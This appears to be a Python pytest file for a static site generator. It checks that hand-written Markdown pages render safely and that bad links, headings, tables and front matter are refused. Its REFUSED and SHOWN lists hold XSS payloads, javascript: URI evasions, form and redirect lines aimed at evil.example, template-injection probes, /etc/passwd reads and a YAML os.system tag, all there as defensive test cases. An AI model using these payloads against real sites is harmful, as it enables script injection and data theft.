"""Pages written by hand: what they may hold, and every way of smuggling in something else."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest

from generator.model.page import Page
from generator.pages.written.content import content_pages
from generator.pages.written.draft import page_address
from tests.pages.small_report import report

TOP = "---\ntitle: About this report\ndescription: Who made it and why.\n---\n"
GENERATED = (
    Page("indicators/loneliness.md", "Lonely", "", '<h2 id="working-on-a-card">x</h2>'),
    Page("methods/index.md", "Methods", "", '<h2 id="since-baseline">x</h2>'),
    Page("index.md", "Home", "", "<h1>x</h1>"),
)


def made(body: str, top: str = TOP) -> Page:
    """The one page that is made of `body`, which nothing is wrong with."""
    site, problems = content_pages({"content/about.md": top + body}, report(), GENERATED)
    assert [str(problem) for problem in problems] == []
    return site.pages[0]


def problems(body: str, top: str = TOP, file: str = "content/about.md") -> list[str]:
    """What is wrong with it; such a page is not made."""
    site, found = content_pages({file: top + body}, report(), GENERATED)
    assert site.pages == () or not found
    return [str(problem).replace("\n   ", "") for problem in found]


def plain(page: Page) -> str:
    """The page's HTML with the escaping undone that is in every page."""
    return re.sub(r"&#(\d+);", lambda found: chr(int(found[1])), page.body)


def test_a_page_is_one_block_with_its_name_and_its_finding() -> None:
    page = made("Text.\n\n## Part one\n\nMore.\n")
    assert page.path == "about/index.md"
    assert (page.title, page.description) == ("About this report", "Who made it and why.")
    assert "\n\n" not in page.body.strip()
    assert page.body.startswith("<div ") and page.body.rstrip().endswith("</div>")
    assert plain(page).count("<h1>") == 1
    assert '<p class="finding">Who made it and why.</p>' in plain(page)
    assert '<a href="../">Home</a>' in plain(page)
    assert '<h2 id="part-one">Part one</h2>' in plain(page)


def test_a_live_number_links_to_its_working() -> None:
    page = made('So {{ number("loneliness") }} of adults.')
    link = '<a href="../indicators/loneliness/#working-on-a-card">19.9%</a>'
    assert f"<p>So {link} of adults.</p>" in plain(page)
    assert page.data_period == "2021 to 2026"
    assert page.illustrative


def test_a_number_of_a_place_and_a_finding() -> None:
    page = made('{{ number("loneliness", place="E05000003") }}\n\n{{ finding("loneliness") }}')
    # 398 of 2,000 people asked, 45% of them in this ward: 398 × 0.45 × 1.025 of 900.
    assert ">20.4%</a>" in plain(page)
    assert ">19.9% of adults often feel lonely in Aldermoor in 2025/26. That is " in plain(page)


def test_where_not_everything_is_made_up_each_made_up_number_says_so() -> None:
    text = '{{ number("loneliness") }}, {{ finding("settled_homes") }}'
    packages = report().inputs.packages
    mixed = (*packages, replace(packages[0], status="final"))
    known = report(illustrative=frozenset({"loneliness"}), packages=mixed)
    (page,) = content_pages({"content/about.md": TOP + text}, known)[0].pages
    assert "19.9%</a> (illustrative), " in plain(page)
    assert plain(page).count("(illustrative)") == 1


def test_a_number_in_a_link_or_in_code_is_no_link_of_its_own() -> None:
    page = made('[Lonely: {{ number("loneliness") }}](methods.md) and `{{ number("loneliness") }}`')
    assert '<a href="../methods/">Lonely: 19.9%</a> and <code>19.9%</code>' in plain(page)


LIVE = {
    '{{ number("lonelyness") }}': (
        "there is no indicator 'lonelyness'",
        "Did you mean 'loneliness'?",
    ),
    '{{ number("loneliness", place="E05000009") }}': (
        "there is no page of a place 'E05000009'",
        "Did you mean 'E0500000",
    ),
    '{{ number("settled_homes") }}': (
        "settled_homes has no number for everyone in Aldermoor (There is no value for everyone",
        "Take the sentence out",
    ),
    '{{ number("loneliness", group="sex=femal") }}': (
        "loneliness has no number for the group 'sex=femal' in Aldermoor",
        "Did you mean 'sex=female'?",
    ),
}


@pytest.mark.parametrize("call", LIVE)
def test_a_call_that_can_say_nothing_is_refused_with_its_line(call: str) -> None:
    what, hint = LIVE[call]
    (said,) = problems(f"One.\n\nTwo {call}.\n")
    assert said.startswith(f"content/about.md line 7: {what}")
    assert hint in said


def test_links_between_pages_are_relative_and_checked() -> None:
    texts = {
        "content/about.md": TOP + "[The team](team/us.md) [its end](team/us.md#the-end)",
        "content/team/us.md": TOP
        + "[About](../about.md) [how](../methods/#since-baseline) [data](../data/results.csv)\n\n"
        + "## The end\n\n[Up there](#the-end) [it](https://example.org/a_(b)) [me](mailto:a@b.org)",
    }
    site, wrong = content_pages(texts, report(), GENERATED)
    assert wrong == []
    about, team = map(plain, site.pages)
    assert 'href="../team/us/"' in about and 'href="../team/us/#the-end"' in about
    for href in (
        "../../about/",
        "../../methods/#since-baseline",
        "../../data/results.csv",
        "#the-end",
        "https://example.org/a_(b)",
        "mailto:a@b.org",
    ):
        assert f'href="{href}"' in team


LINKS = {
    "[Method](method.md)": "there is no page 'method.md' to link to Did you mean 'methods.md'?",
    "[Method](zzzz.md)": "there is no page 'zzzz.md' to link to Type the path of a page",
    "[Method](../../etc.md)": "there is no page '../../etc.md' to link to",
    "[Method](methods.md#since-baselin)": "the page has no part '#since-baselin' Did you mean "
    "'#since-baseline'?",
    "[Part](#nowhere)": "the page has no part '#nowhere' Take the part after # out.",
    "[Root](/methods/)": "a link can't lead to '/methods/'",
    "[Host](//evil.example/)": "a link can't lead to '//evil.example/'",
    "[Back](\\\\evil.example)": "a link can't lead to",
    "[Query](methods/?a=b)": "a link can't lead to 'methods/?a=b'",
    "[File](secret.csv)": "there is no page 'secret.csv' to link to",
    "[here](methods.md)": "the words of the link are 'here', which does not say where it leads",
    "[Click here.](methods.md)": "the words of the link are 'Click here.', which does not",
    "[](methods.md)": "the words of the link are '', which does not",
    "<https://example.org/>": "the words of the link are 'https://example.org/', which does not",
    '[Live]({{ number("loneliness") }})': "a link can't lead to '\ue0000\ue001'",
}


@pytest.mark.parametrize("link", LINKS)
def test_links_that_lead_nowhere_or_say_nothing_are_refused(link: str) -> None:
    (said,) = problems(f"One.\n\n{link}\n")
    assert LINKS[link] in said


def test_a_table_can_be_walked_by_a_screen_reader() -> None:
    page = made("Table: What *we* did\n\n| Year | People |\n|---|---:|\n| 2024 | 12 |\n")
    html = plain(page).replace("\n", "")
    assert (
        '<div aria-labelledby="table-1" class="tb" role="region" tabindex="0"><table>'
        '<caption id="table-1">What <em>we</em> did</caption>'
        '<thead><tr><th scope="col">Year</th><th class="r" scope="col">People</th></tr></thead>'
        '<tbody><tr><th scope="row">2024</th><td class="r">12</td></tr></tbody></table></div>'
    ) in html


SHAPES = {
    "| a | b |\n|---|---|\n| 1 | 2 |": "a table has no caption",
    "Table: x\n\n| a | b |\n|---|---|\n| 1 | |": "a cell of a table is empty",
    "# Name": "a page has one heading of level 1",
    "Name\n====": "a page has one heading of level 1",
    "### Three": "a heading of level 3 follows one of level 1",
    "## Two\n\n#### Four": "a heading of level 4 follows one of level 2",
    "## A {#x}\n\n## B {#x}": "two parts of the page have the id 'x'",
    "![A picture](a.png)": "a picture is not read yet in a page written by hand",
    "a\u202eb": "there is a character that cannot be seen (U+202E)",
    "a\ue0000\ue001": "there is a character that cannot be seen (U+E000)",
    "[" * 500: "a paragraph holds 500 brackets [ and < or more",
    "x" * 100_001: "the page has 100,",
    " " * 44 + "- x": "a line starts with too much white space",
    '[a](methods.md "title")': "<a href title> is not allowed in a page",
}


@pytest.mark.parametrize("body", SHAPES, ids=range(len(SHAPES)))
def test_other_things_that_a_page_cannot_hold(body: str) -> None:
    (said,) = problems(body)
    assert SHAPES[body] in said


# Everything of findings.md section 3 that a page could try, and the ways round a filter that the
# OWASP cheat sheet on filter evasion lists. Each is refused, with file and line.
REFUSED = (
    "<script>alert(1)</script>",
    "x <script src=https://evil.example/x.js></script>",
    '<img src=x onerror="alert(1)">',
    "text <img src=x onerror=alert(1)> text",
    '<svg onload="alert(1)"></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=a></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">x</div>',
    '<a href="methods.md" onclick="alert(1)">a</a>',
    "<object data=x></object>",
    "<embed src=x>",
    "<video src=x onerror=alert(1)></video>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<b>bold</b>",
    "\\<script>alert(1)\\</script>",
    "*[HTML]: <x>",
    "<!-- a comment -->",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x onclick=alert(1)>y</x>",
    "</div></div><script>alert(1)</script>",
    '<div markdown="1">*x*</div>',
    "- item <script>alert(1)</script>",
    "> quote <script>alert(1)</script>",
    "## Heading <script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    "[<img src=x onerror=alert(1)>](methods.md)",
    "Table: x <script>alert(1)</script>\n\n| a |\n|---|\n| b |",
    "Table: x\n\n| a |\n|---|\n| <script>alert(1)</script> |",
    "[a](javascript:alert(1))",
    "[a](JavaScript:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;&#97;&#118;&#97;script&#58;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a]( javascript:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "![a](javascript:alert(1))",
    '![a](x.png" onerror="alert(1))',
    "![a](https://evil.example/pixel.gif)",
    "{% include 'macros.html' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ settings.contact }}",
    '{{ "a" * 2000000000 }}',
    "{% for x in range(9) %}x{% endfor %}",
)
# Each of these is shown as the text that it is: it does nothing.
SHOWN = (
    '--8<-- "/etc/passwd"',
    ";--8<--\n/etc/passwd\n;--8<--",
    "paragraph\n{: onclick=alert(1) }",
    "## Heading {: onmouseover=alert(1) }",
    "## Heading {#ok onclick=alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>\n\n    <b>",
    "{% raw %}{{ settings.contact }}{% endraw %}",
    "&#57344;7&#57345;",
    "[TOC]",
    "*[HTML]: x",
    "---\ntitle: Other\n---",
    "++ins++ ==mark== ^^sup^^ :smile: [^1]",
    "+++\nx = 1\n+++",
    "::: generator.cli",
    "!!! note\n    text",
    "https://evil.example",
    "\\[a](javascript:alert(1))",
    "[a](javascript:alert(1)",
)


@pytest.mark.parametrize("body", REFUSED)
def test_what_could_do_something_is_refused_with_file_and_line(body: str) -> None:
    found = problems(f"First.\n\n{body}\n")
    assert found
    assert all(re.match(r"content/about\.md line \d+: ", said) for said in found), found


@pytest.mark.parametrize("body", SHOWN)
def test_what_does_nothing_is_shown_as_text(body: str) -> None:
    page = made(f"First.\n\n{body}\n")
    html = page.body
    tags = set(re.findall(r"<([a-z0-9]+)", html))
    assert tags <= {"div", "nav", "a", "h1", "h2", "p", "code", "pre", "em", "hr", "ul", "li"}
    assert not re.search(r"<[^>]*\s(on\w+|style|src)=", html)
    assert "javascript:" not in html  # its colon is a reference in a text, and no link has one
    assert not re.search(r'href="[^"]*javascript', html)
    assert "\n\n" not in html.strip()


FRONT = {
    "Text only.\n": "line 1: the page has no front matter",
    "": "line 1: the page has no front matter",
    "\n---\ntitle: a\ndescription: b\n---\n": "line 1: the page has no front matter",
    "---\ntitle: a\ndescription: b\n": "line 1: the front matter has no end",
    "---\ntitle: a\n---\n": "'description' is missing",
    "---\n---\n": "'title' is missing",
    "---\ntitle: a\ndescription: b\nicon: x\n---\n": "line 4: there is no key 'icon' here",
    "---\ntitle: a\ndescription: b\ntemplate: x.html\n---\n": "there is no key 'template' here",
    "---\ntitle: a\ntitle: b\ndescription: c\n---\n": "line 3",
    "---\ntitle: a: b\ndescription: c\n---\n": "line 2",
    "---\ntitle: [a, b]\ndescription: c\n---\n": "line 2, title: one text is expected here",
    "---\ntitle: &x a\ndescription: *x\n---\n": "anchors and aliases are not read",
    "---\ntitle: !!python/object/apply:os.system [x]\ndescription: c\n---\n": "tags are not read",
    "---\ntitle:\ndescription: b\n---\n": "line 2",
}


@pytest.mark.parametrize("text", FRONT, ids=range(len(FRONT)))
def test_front_matter_that_cannot_be_read_is_refused_and_never_printed(text: str) -> None:
    site, found = content_pages({"content/about.md": text}, report(), GENERATED)
    assert site.pages == ()
    assert any(FRONT[text] in str(problem) for problem in found), list(map(str, found))


def test_a_title_is_shown_as_text() -> None:
    page = made(
        "x", "---\ntitle: </title><script>alert(1)</script>\ndescription: '*b* [x](y)'\n---\n"
    )
    assert "<script" not in page.body
    assert "[x](y)" not in page.body
    assert "[x](y)" in plain(page)


@pytest.mark.parametrize("name", ["content/a b.md", "content/A.md", "content/../x.md", "content/a"])
def test_a_file_name_becomes_an_address_so_it_is_plain(name: str) -> None:
    (said,) = problems("x", file=name)
    assert said.startswith(f"{name}: a page can't have this file name")


@pytest.mark.parametrize(
    "name", ["content/index.md", "content/methods.md", "content/methods/index.md"]
)
def test_a_page_cannot_take_the_place_of_another(name: str) -> None:
    (said,) = problems("x", file=name)
    assert said.startswith(f"{name}: the site has a page at this address already")


def test_a_page_with_a_byte_order_mark_and_line_ends_of_windows_is_read() -> None:
    text = "\ufeff" + (TOP + "A\n\nB\n").replace("\n", "\r\n")
    site, found = content_pages({"content/about.md": text}, report())
    assert found == [] and "<p>A</p>" in site.pages[0].body


LONG = 'a sentence has 26 words: "Word word word word word word …"'
HARD = {
    "One is. Two is. Three is. Four is.": ["line 7: warning: a paragraph has 4 sentences"],
    "- Fine.\n- One is. Two is. Three is. *Four* is.": [
        "line 8: warning: a paragraph has 4 sentences"
    ],
    "Word " + "word " * 25: [f"line 7: warning: {LONG}"],
    "Word " + "word " * 23 + '{{ number("loneliness") }}': [],
    "Word " + "word " * 24 + '{{ number("loneliness") }}': [f"line 7: warning: {LONG}"],
    'One is. Two is. {{ finding("loneliness") }}': [],
    "> One is. Two is. Three is. Four is.": [],  # someone's own words
    "Table: x\n\n| a |\n|---|\n| One is. Two is. Three is. Four is. |": [],
    "    One is. Two is. Three is. Four is.": [],
    # 5 words of 6 + 6 + 5 + 4 + 5 groups of vowels a sentence: 0.39 × 5 + 11.8 × 26/5 − 15.59.
    "Organisational accountability necessitates comprehensive documentation.\n\n" * 20: [
        ": warning: the text reads at grade 47.7"
    ],
}


@pytest.mark.parametrize("body", HARD, ids=range(len(HARD)))
def test_what_is_hard_to_read_is_told_and_stops_nothing(body: str) -> None:
    site, found = content_pages({"content/about.md": TOP + f"A.\n\n{body}"}, report(), GENERATED)
    assert len(site.pages) == 1
    said = [str(each).partition("\n")[0].removeprefix("content/about.md") for each in found]
    assert [each.strip() for each in said] == HARD[body]


def test_the_same_texts_in_another_order_give_the_same_pages() -> None:
    texts = {f"content/{name}.md": TOP + name for name in "abc"}
    assert content_pages(texts, report()) == content_pages(dict(reversed(texts.items())), report())


@pytest.mark.parametrize(
    ("path", "address"),
    [
        ("a.md", "a/"),
        ("a/index.md", "a/"),
        ("index.md", ""),
        ("a/b.md", "a/b/"),
        ("an_index.md", "an_index/"),
    ],
)
def test_addresses_are_those_of_the_builder(path: str, address: str) -> None:
    assert page_address(path) == address
